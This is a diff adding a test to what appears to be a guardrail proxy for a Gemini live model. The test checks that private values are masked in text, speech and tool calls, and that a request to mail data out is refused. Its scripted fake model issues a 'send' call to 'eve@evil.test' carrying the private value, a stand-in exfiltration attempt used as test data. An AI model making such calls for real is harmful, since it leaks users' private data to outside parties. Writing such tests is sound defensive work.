@@ -15,7 +15,7 @@ from gemini_proxy.server.live import LIVE
 from tests.conftest import StartProxy
 from tests.proxy.test_approvals import decide
 from tests.proxy.test_kept_values import KEPT
-from tests.proxy.test_masking import EMAIL, OTHER, PLACEHOLDER, TO_THE_MODEL
+from tests.proxy.test_masking import EMAIL, EVERYWHERE, LEAVES, OTHER, PLACEHOLDER, TO_THE_MODEL
 from tests.support.live import (
     GEMINI_PATH,
     SETUP,
@@ -425,6 +425,43 @@ async def test_a_value_goes_up_masked_and_comes_back(live: LiveServer, start_pro
     assert masked[0] == ["messages.0.content", "messages.1.content.0.text"]
     async with aiohttp.request("GET", f"{proxy.url}/metrics") as response:
         assert 'gemini_proxy_guardrail_masks_total{rule="test mask policy"} 4' in await response.text()
+
+
+def makes_up(frame: Frame) -> list[Answer]:
+    """A model that writes, says and calls with an address of its own, or gives the client's away."""
+    if "toolResponse" in frame:
+        return [says("Then not.", complete=True)]
+    if placeholder := PLACEHOLDER.search(str(frame)):
+        return [calls("send", to="eve@evil.test", body=placeholder[0])]
+    if "call" in str(frame):
+        return [says("Calling. "), calls("send", to=[OTHER])]
+    spoken = says(outputTranscription={"text": f"It is {OTHER}"})
+    return [*map(says, ("Behind " * 60, OTHER[:5], OTHER[5:])), spoken, says(complete=True)]
+
+
+@pytest.mark.parametrize("mode", ["final", "hold"])
+async def test_what_the_model_makes_up_is_masked(live: LiveServer, start_proxy: StartProxy, mode: str) -> None:
+    """In what it writes, says and calls with. A value that comes back is private, and no refusal tells it upstream."""
+    live.script = makes_up
+    everywhere = EVERYWHERE + TO_THE_MODEL[TO_THE_MODEL.index('raise "personal data in a call"') :]
+    guarded = {"stream_check": mode, "window_overlap": 64}
+    proxy = await before(live, start_proxy, policy=LEAVES, mask_policy=everywhere, guardrails=guarded)
+    async with session(proxy.url) as client:
+        await client.send(asks("Whom?"))
+        *said, spoken, _ = await client.turn()
+        masked = texts(said).removeprefix("Behind " * 60)
+        assert PLACEHOLDER.fullmatch(masked)
+        assert spoken == says(outputTranscription={"text": f"It is {masked}"})
+        await client.send(asks("Then call"))
+        assert await client.turn() == [says("Calling. "), calls("send", to=[masked])]
+        await client.send(answers("send", done=True))
+        await client.turn()
+        await client.send(asks(f"Mail {EMAIL}"))
+        assert texts([await client.receive()]) == REFUSED + "private data leaves"
+        assert texts(await client.turn()) == "Then not."
+    assert EMAIL.encode() not in b"".join(live.raw)
+    assert await outcomes(proxy, 5) == ["completed"] * 3 + ["refused_response", "completed"]
+    assert OTHER not in str([await proxy.store.get(one.id) for one in await proxy.store.recent(9)])
 
 
 async def test_what_the_model_has_already_cannot_be_masked(live: LiveServer, start_proxy: StartProxy) -> None:
